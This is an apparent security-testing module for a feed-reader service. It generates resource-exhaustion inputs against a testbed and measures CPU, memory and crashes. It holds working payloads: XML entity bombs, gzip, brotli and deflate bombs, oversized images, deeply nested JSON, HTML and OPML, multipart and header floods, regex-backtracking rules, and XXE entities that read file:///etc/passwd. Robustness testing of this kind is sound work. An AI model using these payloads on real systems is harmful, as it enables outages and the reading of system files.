"""Sends small inputs that are expensive to process: feeds, icons, articles, forms, JSON, OPML and headers.

Processor time and memory of the service are measured instead of the time, so that other load does not matter.
"""

from __future__ import annotations

import gzip
import json
import threading
import time
import zlib
from collections.abc import Callable, Iterator, Mapping
from contextlib import suppress
from dataclasses import dataclass, field
from functools import partial
from typing import Final

import brotli

from abuse import client
from abuse.attempts import Attempt, Result
from abuse.people import Person, person
from abuse.service import Service
from abuse.testbed import Testbed

MAX_CPU_S: Final = 12
MAX_MEMORY_BYTES: Final = 500 * 2**20
SUCCEEDS_IF = (
    f"more than {MAX_CPU_S} s of processor time or {MAX_MEMORY_BYTES // 2**20} MiB, an answer 500, or a dead process"
)
_ITEM = "<item><title>a</title><link>http://a.example/</link></item>"


def _rss(inside: str, before: str = "") -> bytes:
    return f'<?xml version="1.0"?>{before}<rss version="2.0"><channel><title>a</title>{inside}</channel></rss>'.encode()


def _entities(levels: int) -> str:
    lines = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, levels))
    return f'<!DOCTYPE rss [<!ENTITY e0 "lol">{lines}]>'


def _content(html: str) -> bytes:
    return _rss(f"<item><title>a</title><guid>1</guid><description><![CDATA[{html}]]></description></item>")


def _opml(inside: str) -> bytes:
    return f'<opml version="2.0"><body>{inside}</body></opml>'.encode()


def _png(width: int, height: int) -> bytes:
    """Return an image that declares a huge size and is nearly empty."""

    def chunk(name: bytes, data: bytes) -> bytes:
        return len(data).to_bytes(4, "big") + name + data + zlib.crc32(name + data).to_bytes(4, "big")

    head = width.to_bytes(4, "big") + height.to_bytes(4, "big") + b"\x08\x06\0\0\0"
    data = zlib.compress(b"\0" * 50_000_000, 9)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", data) + chunk(b"IEND", b"")


# Responses of a publisher to a subscription.
FEEDS: Final[Mapping[str, Callable[[], bytes]]] = {
    "billion laughs": lambda: _rss("<description>&e9;</description>", _entities(10)),
    "quadratic entities": lambda: _rss(f"<description>{'&e0;' * 50000}</description>", f'<!DOCTYPE rss [<!ENTITY e0 "{"a" * 50000}">]>'),
    "entities in attributes": lambda: _rss('<item><enclosure url="&e9;"/></item>', _entities(10)),
    "parameter entities": lambda: _rss("a", '<!DOCTYPE rss [<!ENTITY % a "x"><!ENTITY % b "%a;%a;%a;%a;">%b;%b;]>'),
    "entity that names itself": lambda: _rss("&a;", '<!DOCTYPE rss [<!ENTITY a "&b;"><!ENTITY b "&a;">]>'),
    "nested elements": lambda: _rss("<a>" * 300_000),
    "nested and closed": lambda: _rss("<a>" * 200_000 + "</a>" * 200_000),
    "many attributes": lambda: _rss("<item " + " ".join(f'a{n}="1"' for n in range(200_000)) + "/>"),
    "attribute of 9 MB": lambda: _rss(f'<item><enclosure url="http://a.example/{"a" * 9_000_000}"/></item>'),
    "title of 9 MB": lambda: _rss(f"<item><title>{'a' * 9_000_000}</title></item>"),
    "date of 1 MB": lambda: _rss(f"<item><title>a</title><pubDate>{'1' * 1_000_000}</pubDate></item>"),
    "100,000 items": lambda: _rss(_ITEM * 100_000),
    "500,000 empty elements": lambda: _rss("<a/>" * 500_000),
    "100,000 categories": lambda: _rss(f"<item><title>a</title>{'<category>a</category>' * 100_000}</item>"),
    "100,000 enclosures": lambda: _rss("<item><title>a</title>" + '<enclosure url="http://a.example/"/>' * 100_000 + "</item>"),
    "many namespaces": lambda: _rss("".join(f'<a{n}:b xmlns:a{n}="http://a.example/{n}"/>' for n in range(50_000))),
    "only <": lambda: _rss("<" * 3_000_000),
    "comments": lambda: _rss("<!---->" * 500_000),
    "open comment": lambda: _rss("<!--" + "-" * 5_000_000),
    "open CDATA": lambda: _rss("<![CDATA[" + "]" * 5_000_000),
    "UTF-7": lambda: b'<?xml version="1.0" encoding="utf-7"?><rss>' + b"+ADw-" * 500_000,
    "bytes of no charset": lambda: b"<rss><channel><title>" + bytes(range(128, 256)) * 20_000,
    "nested HTML": lambda: _content("<div>" * 100_000),
    "nested and closed HTML": lambda: _content("<div>" * 50_000 + "</div>" * 50_000),
    "misnested HTML": lambda: _content("<b><i><p>" * 20_000),
    "nested tables": lambda: _content("<table><tr><td>" * 20_000),
    "formatting to rebuild": lambda: _content("<a href=1><b><font>" * 3_000 + "<p>" * 3_000),
    "attributes in HTML": lambda: _content("<a " + " ".join(f"a{n}=1" for n in range(100_000)) + ">a</a>"),
    "links in HTML": lambda: _content("<a href=http://a.example/?utm_source=a>a</a>" * 50_000),
    "open tag in HTML": lambda: _content("<a href='" + "a" * 3_000_000),
    "blanks in HTML": lambda: _content("<p>" + " " * 5_000_000),
    "ampersands in HTML": lambda: _content("&" * 2_000_000),
    "entities in HTML": lambda: _content("&amp;lt;" * 500_000),
    "JSON depth": lambda: b'{"version":"https://jsonfeed.org/version/1.1","items":' + b"[" * 500_000,
    "JSON depth, closed": lambda: b'{"version":"https://jsonfeed.org/version/1.1","a":' + b'{"a":' * 50_000 + b"1" + b"}" * 50_001,
    "JSON number": lambda: b'{"version":"https://jsonfeed.org/version/1.1","items":[],"a":' + b"9" * 2_000_000 + b"}",
    "JSON items": lambda: json.dumps({"version": "https://jsonfeed.org/version/1.1", "title": "a", "items": [{"id": str(n)} for n in range(100_000)]}).encode(),
    "JSON same key": lambda: b'{"version":"https://jsonfeed.org/version/1.1",' + b'"a":1,' * 500_000 + b'"items":[]}',
    "HTML instead of a feed": lambda: b"<html><head>" + b'<link rel=alternate type="application/rss+xml" href="/a">' * 50_000,
    "OPML instead of a feed": lambda: _opml("<outline>" * 100_000),
    "ZIP instead of a feed": lambda: b"PK\x03\x04" + b"\0" * 1_000_000,
}  # fmt: skip
# Compressed responses: bytes and Content-Encoding.
ENCODED: Final[Mapping[str, tuple[Callable[[], bytes], str]]] = {
    "gzip bomb": (lambda: gzip.compress(b"<rss>" + b"\0" * 500_000_000, 9), "gzip"),
    "gzip of blanks": (lambda: gzip.compress(b"<rss><channel>" + b" " * 300_000_000, 9), "gzip"),
    "gzip in gzip": (lambda: gzip.compress(gzip.compress(b"\0" * 300_000_000, 9), 9), "gzip, gzip"),
    "twenty codings": (lambda: b"a", ", ".join(["gzip"] * 20)),
    "brotli bomb": (lambda: brotli.compress(b"\0" * 300_000_000, quality=5), "br"),
    "deflate bomb": (lambda: zlib.compress(b"\0" * 300_000_000, 9), "deflate"),
    "many gzip members": (lambda: gzip.compress(b"") * 200_000, "gzip"),
}
PICTURES: Final[Mapping[str, tuple[Callable[[], bytes], str]]] = {
    "huge PNG": (lambda: _png(60_000, 60_000), "image/png"),
    "PNG of one line": (lambda: _png(2_000_000, 1), "image/png"),
    "SVG bomb": (lambda: b'<?xml version="1.0"?>' + _entities(10).replace("rss", "svg").encode() + b'<svg xmlns="http://www.w3.org/2000/svg"><text>&e9;</text></svg>', "image/svg+xml"),
    "nested SVG": (lambda: b'<svg xmlns="http://www.w3.org/2000/svg">' + b"<g>" * 100_000, "image/svg+xml"),
    "ICO of many": (lambda: b"\0\0\1\0\xff\xff" + b"\0" * 16 * 65535, "image/x-icon"),
}  # fmt: skip


@dataclass(frozen=True)
class Request:
    """signed_in: whether it is sent with the password of a user."""

    name: str
    method: str
    path: str
    body: Callable[[], bytes] = bytes
    headers: Mapping[str, str] = field(default_factory=dict)
    signed_in: bool = False


def _multipart(name: str, path: str, body: Callable[[], bytes], boundary: str = "x") -> Request:
    return Request(
        f"multipart {name}: {path}",
        "POST",
        path,
        body,
        {"Content-Type": f"multipart/form-data; boundary={boundary}"},
        path.startswith("/v1"),
    )


def _part(header: bytes, content: bytes = b"a") -> bytes:
    return b"--x\r\n" + header + b"\r\n\r\n" + content + b"\r\n"


_NAMED: Final = b'Content-Disposition: form-data; name="a"'
_MULTIPART: Final[Mapping[str, Callable[[], bytes]]] = {
    "semicolons": lambda: _part(b"Content-Disposition: form-data; " + b";" * 200_000) + b"--x--\r\n",
    "semicolons in a type": lambda: _part(_NAMED + b"\r\nContent-Type: text/plain" + b";" * 200_000) + b"--x--\r\n",
    "semicolons and quotes": lambda: _part(b"Content-Disposition: form-data; " + b'a="' * 50_000) + b"--x--\r\n",
    "parts": lambda: _part(_NAMED) * 20_000 + b"--x--\r\n",
    "long part headers": lambda: _part(_NAMED + b"\r\nX: " + b"a" * 500_000) + b"--x--\r\n",
    "many part headers": lambda: _part(_NAMED + b"\r\nX: a" * 50_000) + b"--x--\r\n",
    "folded part headers": lambda: _part(_NAMED + b"\r\n a" * 50_000) + b"--x--\r\n",
    "continued parameters": lambda: _part(b"Content-Disposition: form-data" + b"".join(b"; name*%d=a" % n for n in range(20_000))) + b"--x--\r\n",
    "parts in parts": lambda: b"".join(b"--x\r\nContent-Type: multipart/mixed; boundary=x%d\r\n\r\n--x%d\r\n" % (n, n) for n in range(3_000)),
    "no end": lambda: _part(_NAMED, b"\r\n--" * 100_000),
    "encoded words": lambda: _part(b"Content-Disposition: form-data; name=" + b"=?utf-8?q?a?= " * 20_000) + b"--x--\r\n",
}  # fmt: skip
REQUESTS: Final = (
    *(_multipart(name, path, body) for path in ("/sign-in", "/feeds/import", "/v1/import") for name, body in _MULTIPART.items()),
    _multipart("long boundary", "/sign-in", lambda: b"--" + b"x" * 60_000, "x" * 30_000),
    Request("form fields", "POST", "/sign-in", lambda: b"a=1&" * 250_000, {"Content-Type": "application/x-www-form-urlencoded"}),
    Request("form separators", "POST", "/sign-in", lambda: b"&" * 1_000_000, {"Content-Type": "application/x-www-form-urlencoded"}),
    Request("form percent", "POST", "/sign-in", lambda: b"username=" + b"%41" * 300_000, {"Content-Type": "application/x-www-form-urlencoded"}),
    Request("long password", "POST", "/sign-in", lambda: b"username=admin&password=" + b"a" * 900_000, {"Content-Type": "application/x-www-form-urlencoded"}),
    Request("JSON depth in a request", "POST", "/v1/feeds", lambda: b'{"feed_url":' + b"[" * 500_000, signed_in=True),
    Request("JSON depth, unknown field", "POST", "/v1/feeds", lambda: b'{"feed_url":"http://127.0.0.1:1/","x":' + b"[" * 100_000 + b"]" * 100_000 + b"}", signed_in=True),
    Request("JSON number in a request", "PUT", "/v1/entries", lambda: b'{"entry_ids":[' + b"9" * 900_000 + b'],"status":"read"}', signed_in=True),
    Request("50,000 ids", "PUT", "/v1/entries", lambda: b'{"entry_ids":[' + b"1," * 50_000 + b'1],"status":"read"}', signed_in=True),
    Request("million ids", "PUT", "/v1/entries", lambda: b'{"entry_ids":[' + b",".join(b"%d" % n for n in range(1_000_000)) + b'],"status":"read"}', signed_in=True),
    Request("JSON keys", "POST", "/v1/feeds", lambda: json.dumps({f"k{n}": n for n in range(50_000)}).encode(), signed_in=True),
    Request("compressed request", "POST", "/v1/feeds", lambda: gzip.compress(b"\0" * 300_000_000), {"Content-Encoding": "gzip"}, signed_in=True),
    Request("expensive rule", "POST", "/v1/feeds", lambda: json.dumps({"feed_url": "http://127.0.0.1:1/", "blocklist_rules": "(" * 5000 + "a" + ")+" * 5000}).encode(), signed_in=True),
    Request("huge repetition", "POST", "/v1/feeds", lambda: json.dumps({"feed_url": "http://127.0.0.1:1/", "blocklist_rules": "((a{1000}){1000}){1000}"}).encode(), signed_in=True),
    Request("OPML laughs", "POST", "/v1/import", lambda: b'<?xml version="1.0"?>' + _entities(10).replace("rss", "opml").encode() + _opml('<outline text="&e9;" xmlUrl="http://127.0.0.1:1/"/>'), signed_in=True),
    Request("OPML depth", "POST", "/v1/import", lambda: _opml('<outline text="a">' * 100_000), signed_in=True),
    Request("OPML attributes", "POST", "/v1/import", lambda: _opml("<outline " + " ".join(f'a{n}="1"' for n in range(100_000)) + "/>"), signed_in=True),
    Request("OPML not feeds", "POST", "/v1/import", lambda: _opml('<outline text="a"/>' * 100_000), signed_in=True),
    Request("search of quotes", "GET", "/v1/entries?search=" + "%22" * 2_000, signed_in=True),
    Request("search of words", "GET", "/v1/entries?search=" + "a%20OR%20" * 1_500, signed_in=True),
    Request("query fields", "GET", "/v1/entries?" + "status=read&" * 4_000, signed_in=True),
    Request("cookies", "GET", "/unread", headers={"Cookie": "a=1;" * 12_000}),
    Request("cookie separators", "GET", "/unread", headers={"Cookie": ";" * 50_000}),
    Request("languages", "GET", "/sign-in", headers={"Accept-Language": "de;q=0.1," * 5_000}),
    Request("encodings", "GET", "/sign-in", headers={"Accept-Encoding": "gzip;q=0.1," * 4_000}),
    Request("forwarded addresses", "GET", "/sign-in", headers={"X-Forwarded-For": "1.1.1.1," * 6_000}),
    Request("content type of semicolons", "POST", "/sign-in", lambda: b"a", {"Content-Type": "multipart/form-data" + ";" * 50_000}),
    Request("credentials", "GET", "/v1/me", headers={"Authorization": "Basic " + "YTph" * 12_000}),
    Request("ranges", "GET", "/favicon.ico", headers={"Range": "bytes=" + "0-0," * 12_000}),
    Request("entity tags", "GET", "/favicon.ico", headers={"If-None-Match": '"a",' * 12_000}),
)  # fmt: skip


def run(testbed: Testbed) -> Iterator[Result]:
    service, user = testbed.shared, person(testbed.shared)
    for request in testbed.choose(REQUESTS, 5):
        tries = f"{request.method} {request.path[:40]} by {'a user' if request.signed_in else 'a stranger'}"
        yield _measured(service, Attempt(request.name, tries, SUCCEEDS_IF), partial(_send, service, user, request))
    for name, feed in testbed.choose(FEEDS.items(), 3):
        yield _measured(
            service,
            Attempt(f"feed: {name}", "a feed is subscribed to", SUCCEEDS_IF),
            partial(_subscribe, testbed, user, feed),
        )
    for name, (body, coding) in testbed.choose(ENCODED.items(), 1):
        yield _measured(
            service,
            Attempt(f"feed: {name}", f"Content-Encoding: {coding[:20]}", SUCCEEDS_IF),
            partial(_subscribe, testbed, user, body, coding),
        )
    for name, (body, kind) in testbed.choose(PICTURES.items(), 1):
        yield _measured(
            service,
            Attempt(f"icon: {name}", "the icon of a feed", SUCCEEDS_IF),
            partial(_icon, testbed, user, body, kind),
        )
    yield from _outside_entities(testbed, user)


def _measured(service: Service, attempt: Attempt, act: Callable[[], int]) -> Result:
    """act: returns the status of the response, 0 without one."""
    processor, memory, processes = service.processor_s(), service.memory_bytes(), set(service.processes()[:2])
    peak, done = [memory], threading.Event()

    def watch() -> None:
        while not done.wait(0.05):
            peak.append(service.memory_bytes())

    watcher = threading.Thread(target=watch)
    watcher.start()
    try:
        status = act()
    finally:
        done.set()
        watcher.join()
    used, grown = service.processor_s() - processor, max(peak) - memory
    trouble = []
    if status == 500 and attempt.tries.startswith(("POST", "GET", "PUT")):
        trouble.append("answered 500")
    if used > MAX_CPU_S:
        trouble.append(f"{used:.1f} s of processor time")
    if grown > MAX_MEMORY_BYTES:
        trouble.append(f"{grown / 2**20:.0f} MiB")
    if not service.is_running or not processes <= set(service.processes()):
        trouble.append("a process ended")
    return Result(attempt, ", ".join(trouble))


def _send(service: Service, user: Person, request: Request) -> int:
    headers = {"Content-Type": "application/json", **(user.basic if request.signed_in else {}), **request.headers}
    with suppress(OSError):
        answer = client.request(
            service, request.method, request.path, headers=headers, body=request.body() or None, timeout_s=120
        )
        return answer.status
    return 0


def _subscribe(testbed: Testbed, user: Person, body: Callable[[], bytes], coding: str = "") -> int:
    url = testbed.publisher.serve(f"/bomb{time.monotonic_ns()}.xml", body(), Content_Encoding=coding)
    with suppress(OSError):
        answer = user.api("POST", "/v1/feeds", {"feed_url": url}, timeout_s=120)
        if answer.status == 201:
            user.api("DELETE", f"/v1/feeds/{answer.json()['feed_id']}", timeout_s=120)
        return answer.status
    return 0


def _icon(testbed: Testbed, user: Person, body: Callable[[], bytes], kind: str) -> int:
    path = f"/bomb{time.monotonic_ns()}"
    icon = testbed.publisher.serve(f"{path}.icon", body(), kind)
    site = testbed.publisher.serve(f"{path}.html", f'<link rel="icon" href="{icon}">', "text/html")
    feed = f'<rss version="2.0"><channel><title>a</title><link>{site}</link>{_ITEM}</channel></rss>'
    status = user.api(
        "POST", "/v1/feeds", {"feed_url": testbed.publisher.serve(f"{path}.xml", feed)}, timeout_s=120
    ).status
    deadline = time.monotonic() + 30
    while not testbed.publisher.requests(f"{path}.icon") and time.monotonic() < deadline:
        time.sleep(0.1)
    time.sleep(1)
    return status


def _outside_entities(testbed: Testbed, user: Person) -> Iterator[Result]:
    """Try entities and includes that refer to files and URLs (XXE)."""
    for name, body in {
        "file": '<!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/passwd">]><rss version="2.0"><channel><title>&x;</title></channel></rss>',
        "address": '<!DOCTYPE rss [<!ENTITY x SYSTEM "%S">]><rss version="2.0"><channel><title>&x;</title></channel></rss>',
        "document type": '<!DOCTYPE rss SYSTEM "%S"><rss version="2.0"><channel><title>a</title></channel></rss>',
        "parameter": '<!DOCTYPE rss [<!ENTITY % x SYSTEM "%S"> %x;]><rss version="2.0"><channel><title>a</title></channel></rss>',
        "include": '<rss version="2.0" xmlns:xi="http://www.w3.org/2001/XInclude"><channel><title><xi:include href="%S" parse="text"/></title></channel></rss>',
        "style sheet": '<?xml-stylesheet href="%S"?><rss version="2.0"><channel><title>a</title></channel></rss>',
    }.items():
        path = f"/outside-{time.monotonic_ns()}"
        url = testbed.publisher.serve(f"{path}.xml", body.replace("%S", testbed.publisher.url(f"{path}.dtd")))
        user.api("POST", "/v1/feeds", {"feed_url": url})
        user.api("POST", "/v1/import", body.replace("%S", testbed.publisher.url(f"{path}.dtd")).encode())
        requested = user.api("GET", "/v1/feeds").text
        evidence = (
            "the file is shown"
            if "root:" in requested
            else "; ".join(seen.line for seen in testbed.publisher.requests(f"{path}.dtd"))
        )
        yield Result(
            Attempt(f"outside: {name}", "an entity or include that leads outside", "it is read or asked for"), evidence
        )
